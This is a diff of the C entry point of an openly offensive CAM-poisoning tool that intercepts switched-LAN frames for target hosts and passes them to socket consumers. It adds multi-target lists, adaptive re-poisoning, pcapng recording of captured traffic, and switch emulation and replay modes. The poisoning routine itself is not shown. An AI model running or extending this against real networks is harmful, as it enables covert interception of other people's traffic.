@@ -9,6 +9,7 @@
 #include <argp.h>
 #include <string.h>
 #include <limits.h>
+#include <errno.h>
 
 // network
 #include <netinet/in.h>
@@ -21,68 +22,236 @@
 #include <arp.h>
 #include <ipc.h>
 #include <poison.h>
+#include <retransmit.h>
+#include <lowlat.h>
+#include <pcapng.h>
+#include <replay.h>
+#include <switchemu.h>
+#include <target.h>
 
 
 /*******************
  * Argument parser *
  *******************/
-#define NB_ARGS 3
 const char *argp_program_version = PACKAGE_STRING;
 const char *argp_program_bug_address = PACKAGE_BUGREPORT;
 static char doc[] =
 "Launch a CAM poisoning attack.\n"
-"It intercept frames between HOST1 and HOST2. The IPCs are handled with an "
+"It intercept frames sent to any of the HOSTs. The IPCs are handled with an "
 "UNIX socket whose path is given with SOCKET. All intercepted frames are "
-"send through the IPC\n\n"
-"Both HOST1 and HOST2 must be valid IP address in the same subnet. If an "
-"interface is defined, they also must be in the interface subnet";
+"send through the IPC. With several consumers (see --consumer), frames are "
+"spread by flow\n\n"
+"All HOSTs must be valid IP address in the same subnet. If an interface is "
+"defined, they also must be in the interface subnet. HOSTs can also be read "
+"from a file with --targets";
 
 #define DEFAULT_FREQ 20			// 20ms
-static char args_doc[] = "HOST1 HOST2 SOCKET";
+#define OPT_BUSY_POLL	256
+#define OPT_CPUS		257
+#define OPT_RT_PRIORITY	258
+#define OPT_OVERLOAD	259
+#define OPT_BUDGET		260
+#define OPT_LOG_FILE	261
+#define OPT_PCAP		262
+#define OPT_PCAP_SIZE	263
+#define OPT_PCAP_FILES	264
+#define OPT_REPLAY		265
+#define OPT_REPLAY_TIMING	266
+#define OPT_REPLAY_LOOPS	267
+#define OPT_EMULATE		268
+#define OPT_EMULATE_RATE	269
+#define OPT_EMULATE_DURATION	270
+#define OPT_EMULATE_AGING	271
+#define OPT_ADAPTIVE	272
+static char args_doc[] = "HOST... SOCKET";
 static struct argp_option options[] = {
 	// Program options
 	{ "interface",	'i',	"ifname",	0,	"Select the interface"},
+	{ "targets",	't',	"file",		0,	"Read additional HOSTs from a "
+											"file, one IP address per line. "
+											"Lines starting with # are "
+											"ignored"},
 	{ "frequency",	'f',	"freqency",	0,	"Define the duration between each "
 											"poisoning phase in milliseconds. "
 											"It must be between 1 and "
 											STR(MAX_INT) "."
-											"Default: " STR(DEFAULT_FREQ)},
+											"Default: " XSTR(DEFAULT_FREQ)},
+	{ "adaptive",	OPT_ADAPTIVE,	"floor:ceiling",	OPTION_ARG_OPTIONAL,
+											"Poison each target again as soon "
+											"as a frame from it is seen, and "
+											"in the background at the pace of "
+											"its traffic, between floor and "
+											"ceiling ms. The frequency becomes "
+											"the period of the checks. "
+											"Default: "
+											XSTR(POISON_DEFAULT_FLOOR) ":"
+											XSTR(POISON_DEFAULT_CEILING)},
+	{ "consumer",	'c',	"socket",	0,	"Send intercepted frames to this "
+											"UNIX socket too. Can be repeated"},
+	{ "workers",	'w',	"number",	0,	"Define the number of threads "
+											"retransmitting queued frames. "
+											"Default: "
+											XSTR(RETRANSMIT_DEFAULT_WORKERS)},
+	// IPC options
+	{ 0, 0, 0, 0, "IPC options:" },
+	{ "overload",	OPT_OVERLOAD,	"policy",	0,	"What to do with frames "
+											"when their consumer is overloaded: "
+											"buffer (up to the budget, then "
+											"drop), drop, or forward them "
+											"unmodified. Default: buffer"},
+	{ "overload-budget",OPT_BUDGET,	"frames",	0,	"Define the number of "
+											"frames buffered per consumer. "
+											"Default: "
+											XSTR(IPC_DEFAULT_BUDGET)},
+	// Low-latency options
+	{ 0, 0, 0, 0, "Low-latency options:" },
+	{ "low-latency",'L',	0,			0,	"Busy poll the sockets instead of "
+											"sleeping. This uses a whole CPU"},
+	{ "busy-poll",	OPT_BUSY_POLL,	"us",	0,	"Define the SO_BUSY_POLL "
+											"duration of the capture socket in "
+											"low-latency mode. Default: "
+											XSTR(LOWLAT_DEFAULT_BUSY_POLL)},
+	{ "cpus",		OPT_CPUS,	"list",	0,	"Comma-separated CPUs to pin "
+											"threads on in low-latency mode: "
+											"the first one for the capture & "
+											"poisoning thread, the next ones "
+											"for the retransmission workers"},
+	{ "rt-priority",OPT_RT_PRIORITY,"prio",	0,	"Run the poisoning thread under "
+											"SCHED_FIFO with the given priority "
+											"and lock its memory, in "
+											"low-latency mode"},
+	// Recording options
+	{ 0, 0, 0, 0, "Recording options:" },
+	{ "pcap",		OPT_PCAP,	"file",	0,	"Record the intercepted and "
+											"retransmitted frames in this "
+											"pcapng file"},
+	{ "pcap-size",	OPT_PCAP_SIZE,	"MB",	0,	"Rotate the pcapng file when "
+											"it grows over this size: files "
+											"are numbered (file.0, file.1...)"},
+	{ "pcap-files",	OPT_PCAP_FILES,	"number",	0,	"Only keep this number of "
+											"rotated pcapng files"},
+	// Replay options
+	{ 0, 0, 0, 0, "Replay options:" },
+	{ "replay",		OPT_REPLAY,	"file",	0,	"Benchmark the engine alone: "
+											"read the frames from this capture "
+											"(pcap or pcapng) instead of the "
+											"network, and count the frames "
+											"sent. No interface is used"},
+	{ "replay-timing",OPT_REPLAY_TIMING,	0,	0,	"Replay the frames at the "
+											"timing of the capture instead of "
+											"as fast as possible"},
+	{ "replay-loops",OPT_REPLAY_LOOPS,	"number",	0,	"Replay the capture "
+											"this number of times. Default: 1"},
+	// Switch emulator options
+	{ 0, 0, 0, 0, "Switch emulator options:" },
+	{ "emulate",	OPT_EMULATE,	"hosts",	0,	"Run the attack against "
+											"this number of hosts simulated "
+											"behind an emulated switch, on a "
+											"virtual clock. The HOSTs must be "
+											"among them. No interface is used"},
+	{ "emulate-rate",OPT_EMULATE_RATE,	"fps",	0,	"Define the number of "
+											"frames sent by each host per "
+											"second. Default: 10"},
+	{ "emulate-duration",OPT_EMULATE_DURATION,	"s",	0,	"Define the "
+											"duration of the traffic, in "
+											"virtual seconds. Default: 10"},
+	{ "emulate-aging",OPT_EMULATE_AGING,	"s",	0,	"Define the aging "
+											"time of the CAM table of the "
+											"switch. Default: 300"},
 	// Verbose options
 	{ 0, 0, 0, 0, "Output options:" },
 	{ "verbose",	'v',	0,			0,	"Produce verbose output"},
 	{ "quiet",		'q',	0,			0,	"Don't produce any output"},
 	{ "silence",	's',	0,			OPTION_ALIAS},
 	{ "debug",		'd',	0,			0,	"Produce debug output"},
+	{ "log-file",	OPT_LOG_FILE,	"path",	0,	"Write the output to this "
+											"file instead of the terminal"},
 	{ 0 }
 };
 
+#define HOSTS_INIT_SIZE 16
 struct arguments {
-	union {
-		char *args[NB_ARGS];	// for accessing by arg number
-		struct {				// for accessing by the meaning
-			char *h1;
-			char *h2;
-			char *sock_path;
-		};
-	};
+	// the last argument is the socket, the previous ones are hosts
+	char *sock_path;
+	// additional consumers
+	int nconsumers;
+	char *consumers[IPC_MAX_CONSUMERS - 1];
+	int overload;
+	int budget;
 
 	char *ifname;
-	int freq;
+	struct attack_opts opts;
+	struct pcapng_opts pcap;
+	struct replay_opts replay;
+	struct switchemu_opts emulate;
 
 	// to store arguments once parsed
-	struct in_addr h1_addr;
-	struct in_addr h2_addr;
+	size_t nhosts;
+	size_t hosts_size;
+	struct in_addr *hosts;
 	struct iface iface;
 };
 
+/*
+ * Parse and append a host to the arguments
+ * Return 0 if it is not a valid IP address
+ */
+static int add_host(struct arguments *arguments, const char *host) {
+	struct in_addr *hosts;
+
+	if (arguments->nhosts == arguments->hosts_size) {
+		hosts = (struct in_addr *) realloc(arguments->hosts,
+				2 * arguments->hosts_size * sizeof(struct in_addr));
+		if (hosts == NULL) {
+			perror("Cannot allocate memory for the hosts");
+			exit(1);
+		}
+		arguments->hosts = hosts;
+		arguments->hosts_size *= 2;
+	}
+	if (!inet_atoh(host, &arguments->hosts[arguments->nhosts]))
+		return 0;
+	arguments->nhosts++;
+	return 1;
+}
+
+/*
+ * Read hosts from a file, one per line
+ */
+static void read_targets(struct arguments *arguments, const char *path,
+		struct argp_state *state) {
+	FILE *f;
+	char line[64];
+	char *host;
+
+	if ((f = fopen(path, "r")) == NULL) {
+		argp_failure(state, 1, errno, "Cannot open targets file -- %s", path);
+		return;
+	}
+	while (fgets(line, sizeof(line), f) != NULL) {
+		// strip blanks and skip comments & empty lines
+		host = line + strspn(line, " \t");
+		host[strcspn(host, " \t\r\n")] = '\0';
+		if (host[0] == '#' || host[0] == '\0')
+			continue;
+		if (!add_host(arguments, host))
+			argp_error(state, "Invalid IP address in %s -- %s", path, host);
+	}
+	fclose(f);
+}
+
 /*
  * argp parser
  */
 static error_t parse_opt(int key, char *arg, struct argp_state *state) {
 	struct arguments *arguments = state->input;
+	size_t i;
 	switch (key) {
 		case 'd':
 			logLevel = LOGLVL_DEBUG;
+			if (LOG_MIN_LEVEL > LOGLVL_DEBUG)
+				argp_failure(state, 0, 0, "Warning: debug messages were "
+						"disabled at compile time (see --with-log-level)");
 			break;
 		case 'v':
 			logLevel = LOGLVL_INFO;
@@ -94,38 +263,170 @@ static error_t parse_opt(int key, char *arg, struct argp_state *state) {
 		case 'i':
 			arguments->ifname = arg;
 			break;
+		case 't':
+			read_targets(arguments, arg, state);
+			break;
 		case 'f':
-			arguments->freq = atoi(arg);
-			if (arguments->freq < 1) {
-				argp_error(state, "Invalid frenquency -- %i", arguments->freq);
+			arguments->opts.freq = atoi(arg);
+			if (arguments->opts.freq < 1) {
+				argp_error(state, "Invalid frenquency -- %i",
+						arguments->opts.freq);
+			}
+			break;
+		case 'c':
+			if (arguments->nconsumers == IPC_MAX_CONSUMERS - 1) {
+				argp_error(state, "Too many consumers -- %s", arg);
 			}
+			arguments->consumers[arguments->nconsumers++] = arg;
+			break;
 
-		case ARGP_KEY_ARG:
-			if (state->arg_num >= NB_ARGS)
-				// Too many arguments
-				argp_usage(state);
+		case OPT_ADAPTIVE:
+			arguments->opts.adaptive = 1;
+			if (arg != NULL && (sscanf(arg, "%i:%i", &arguments->opts.floor,
+						&arguments->opts.ceiling) != 2
+					|| arguments->opts.floor < 1
+					|| arguments->opts.ceiling < arguments->opts.floor)) {
+				argp_error(state, "Invalid adaptive cadence -- %s", arg);
+			}
+			break;
+		case OPT_OVERLOAD:
+			if (strcmp(arg, "buffer") == 0) {
+				arguments->overload = IPC_OVERLOAD_BUFFER;
+			} else if (strcmp(arg, "drop") == 0) {
+				arguments->overload = IPC_OVERLOAD_DROP;
+			} else if (strcmp(arg, "forward") == 0) {
+				arguments->overload = IPC_OVERLOAD_FORWARD;
+			} else {
+				argp_error(state, "Invalid overload policy -- %s", arg);
+			}
+			break;
+		case OPT_PCAP:
+			arguments->pcap.path = arg;
+			break;
+		case OPT_PCAP_SIZE:
+			if (atoi(arg) < 1)
+				argp_error(state, "Invalid pcapng file size -- %s", arg);
+			arguments->pcap.max_size = (size_t) atoi(arg) * 1024 * 1024;
+			break;
+		case OPT_PCAP_FILES:
+			arguments->pcap.max_files = atoi(arg);
+			if (arguments->pcap.max_files < 1)
+				argp_error(state, "Invalid number of pcapng files -- %s", arg);
+			break;
+		case OPT_REPLAY:
+			arguments->replay.path = arg;
+			break;
+		case OPT_REPLAY_TIMING:
+			arguments->replay.timing = 1;
+			break;
+		case OPT_REPLAY_LOOPS:
+			arguments->replay.loops = atoi(arg);
+			if (arguments->replay.loops < 1)
+				argp_error(state, "Invalid number of loops -- %s", arg);
+			break;
+		case OPT_EMULATE:
+			arguments->emulate.hosts = atoi(arg);
+			if (arguments->emulate.hosts < 2 ||
+					arguments->emulate.hosts > SWITCHEMU_MAX_HOSTS)
+				argp_error(state, "Invalid number of hosts -- %s", arg);
+			break;
+		case OPT_EMULATE_RATE:
+			arguments->emulate.rate = atoi(arg);
+			if (arguments->emulate.rate < 1)
+				argp_error(state, "Invalid frame rate -- %s", arg);
+			break;
+		case OPT_EMULATE_DURATION:
+			arguments->emulate.duration = atoi(arg);
+			if (arguments->emulate.duration < 1)
+				argp_error(state, "Invalid duration -- %s", arg);
+			break;
+		case OPT_EMULATE_AGING:
+			arguments->emulate.aging = atoi(arg);
+			if (arguments->emulate.aging < 1)
+				argp_error(state, "Invalid aging time -- %s", arg);
+			break;
+		case OPT_LOG_FILE:
+			if (!logger_open_file(arg))
+				argp_failure(state, 1, 0, "Cannot log to %s", arg);
+			break;
+		case OPT_BUDGET:
+			arguments->budget = atoi(arg);
+			if (arguments->budget <= 0) {
+				argp_error(state, "Invalid overload budget -- %s", arg);
+			}
+			break;
 
-			arguments->args[state->arg_num] = arg;
+		case 'w':
+			arguments->opts.workers = atoi(arg);
+			if (arguments->opts.workers < 1) {
+				argp_error(state, "Invalid number of workers -- %i",
+						arguments->opts.workers);
+			}
+			break;
+		case 'L':
+			arguments->opts.lowlat.enabled = 1;
+			break;
+		case OPT_BUSY_POLL:
+			arguments->opts.lowlat.busy_poll = atoi(arg);
+			if (arguments->opts.lowlat.busy_poll < 0) {
+				argp_error(state, "Invalid busy poll duration -- %s", arg);
+			}
+			break;
+		case OPT_CPUS:
+			arguments->opts.lowlat.ncpus = parse_cpu_list(arg,
+					arguments->opts.lowlat.cpus, LOWLAT_MAX_CPUS);
+			if (arguments->opts.lowlat.ncpus < 1) {
+				argp_error(state, "Invalid CPU list -- %s", arg);
+			}
+			break;
+		case OPT_RT_PRIORITY:
+			arguments->opts.lowlat.rt_priority = atoi(arg);
+			if (arguments->opts.lowlat.rt_priority < 1 ||
+					arguments->opts.lowlat.rt_priority > 99) {
+				argp_error(state, "Invalid real-time priority -- %s", arg);
+			}
+			break;
+
+		case ARGP_KEY_ARG:
+			// the previous argument was a host
+			if (arguments->sock_path != NULL &&
+					!add_host(arguments, arguments->sock_path)) {
+				argp_error(state, "Invalid IP address -- %s",
+						arguments->sock_path);
+			}
+			arguments->sock_path = arg;
 			break;
 
 		case ARGP_KEY_END:
-			// check argument number
-			if (state->arg_num < NB_ARGS)
+			// check argument number: hosts may come from the targets file
+			if (state->arg_num < 1 || arguments->nhosts < 1)
 				/* Not enough arguments. */
 				argp_usage(state);
 
-			// check HOST1 & HOST2 format
-			if (!inet_atoh(arguments->h1, &arguments->h1_addr))
-				argp_error(state, "Invalid IP address -- %s", arguments->h1);
-
-			if (!inet_atoh(arguments->h2, &arguments->h2_addr))
-				argp_error(state, "Invalid IP address -- %s", arguments->h2);
-
 			// parse the interface
-			if (arguments->ifname == NULL) {
-				if (!get_iface_by_ip(arguments->h1_addr, &arguments->iface)) {
+			if (arguments->emulate.hosts > 0) {
+				// emulated by the switch, in virtual time
+				if (arguments->replay.path != NULL)
+					argp_error(state, "Cannot emulate a switch and replay "
+							"a capture at once");
+				if (arguments->opts.lowlat.enabled)
+					argp_error(state, "Cannot emulate a switch in "
+							"low-latency mode");
+				if (!switchemu_open(&arguments->emulate, arguments->hosts,
+							arguments->nhosts, &arguments->iface)) {
+					argp_error(state, "Cannot emulate the switch");
+				}
+			} else if (arguments->replay.path != NULL) {
+				// emulated by the replay
+				if (!replay_open(&arguments->replay, arguments->hosts[0],
+							&arguments->iface)) {
+					argp_error(state, "Cannot replay -- %s",
+							arguments->replay.path);
+				}
+			} else if (arguments->ifname == NULL) {
+				if (!get_iface_by_ip(arguments->hosts[0], &arguments->iface)) {
 					argp_error(state, "Interface not found for IP -- %s",
-							arguments->h1);
+							inet_htoa(arguments->hosts[0]));
 				}
 			} else {
 				if (!get_iface_by_name(arguments->ifname, &arguments->iface)) {
@@ -134,11 +435,13 @@ static error_t parse_opt(int key, char *arg, struct argp_state *state) {
 				}
 			}
 
-			// check both hosts are in the same subnet
-			if (!(IN_INTERFACE(arguments->h1_addr, arguments->iface) &&
-						IN_INTERFACE(arguments->h2_addr, arguments->iface))) {
-				argp_error(state,"Hosts are not in the same subnet or "
-						"are not in the interface subnet");
+			// check all hosts are in the same subnet
+			for (i = 0; i < arguments->nhosts; i++) {
+				if (!IN_INTERFACE(arguments->hosts[i], arguments->iface)) {
+					argp_error(state,"Hosts are not in the same subnet or "
+							"are not in the interface subnet -- %s",
+							inet_htoa(arguments->hosts[i]));
+				}
 			}
 			break;
 
@@ -155,43 +458,85 @@ static struct argp argp = { options, parse_opt, args_doc, doc, 0, 0, 0 };
  * Main *
  ********/
 int main(int argc, char *argv[]) {
+	size_t i;
 	init_logger();
 
 	// parse the commandline arguments
 	struct arguments args;
 	memset(&args, 0, sizeof(struct arguments));
 	// default arguments' values
-	args.freq = DEFAULT_FREQ;
+	args.opts.freq = DEFAULT_FREQ;
+	args.opts.floor = POISON_DEFAULT_FLOOR;
+	args.opts.ceiling = POISON_DEFAULT_CEILING;
+	args.opts.workers = RETRANSMIT_DEFAULT_WORKERS;
+	args.opts.lowlat.busy_poll = LOWLAT_DEFAULT_BUSY_POLL;
+	args.overload = IPC_OVERLOAD_BUFFER;
+	args.budget = IPC_DEFAULT_BUDGET;
+	args.replay.loops = 1;
+	args.emulate.rate = SWITCHEMU_DEFAULT_RATE;
+	args.emulate.duration = SWITCHEMU_DEFAULT_DURATION;
+	args.emulate.aging = SWITCHEMU_DEFAULT_AGING;
+	args.hosts_size = HOSTS_INIT_SIZE;
+	args.hosts = (struct in_addr *) malloc(
+			HOSTS_INIT_SIZE * sizeof(struct in_addr)
+			);
+	if (args.hosts == NULL) {
+		perror("Cannot allocate memory for the hosts");
+		exit(1);
+	}
 
 	// parse cmdline arguments
 	argp_parse(&argp, argc, argv, 0, 0, &args);
 
+	// from now on, the output does not slow the poisoner down
+	logger_start();
+
 	// launch the ARP scan
 	arp_cache_init();
 	arp_scan(&args.iface);
 
-	// ensure HOST1 and HOST2 are in the local cache
-	if (!arp_ensure(&args.iface, args.h1_addr)) {
-		log_critical("Could find host %s in the network\n",
-				inet_htoa(args.h1_addr));
-		exit(1);
-	}
-	if (!arp_ensure(&args.iface, args.h2_addr)) {
-		log_critical("Could find host %s in the network\n",
-				inet_htoa(args.h2_addr));
-		exit(1);
+	// ensure all hosts are in the local cache and build the target table
+	struct target_table targets;
+	target_table_init(&targets, args.nhosts);
+	for (i = 0; i < args.nhosts; i++) {
+		if (!arp_ensure(&args.iface, args.hosts[i])) {
+			log_critical("Could find host %s in the network\n",
+					inet_htoa(args.hosts[i]));
+			exit(1);
+		}
+		if (target_table_add(&targets, &args.iface, args.hosts[i]) == NULL) {
+			exit(1);
+		}
 	}
+	free(args.hosts);
 
 	// open the IPC socket
-	struct ipc ipc;
-	open_ipc(&ipc, args.sock_path);
+	static struct ipc ipc;
+	open_ipc(&ipc);
+	ipc.policy = args.overload;
+	ipc.budget = args.budget;
+	add_ipc_consumer(&ipc, args.sock_path, 1);
+	for (i = 0; i < (size_t) args.nconsumers; i++) {
+		add_ipc_consumer(&ipc, args.consumers[i], 1);
+	}
+
+	// record the frames
+	if (args.pcap.path != NULL) {
+		args.pcap.ifname = args.iface.ifname;
+		if (!pcapng_start(&args.pcap))
+			exit(1);
+	}
 
 	// launch the attack
-	launch_attack(&args.iface, &ipc, args.freq, args.h1_addr,args.h2_addr);
+	launch_attack(&args.iface, &ipc, &args.opts, &targets);
+	pcapng_stop();
+	replay_close();
+	switchemu_close();
 
 	// close the IPC socket
 
 	// free the cache
+	target_table_free(&targets);
 	arp_cache_free();
 	return 0;
 }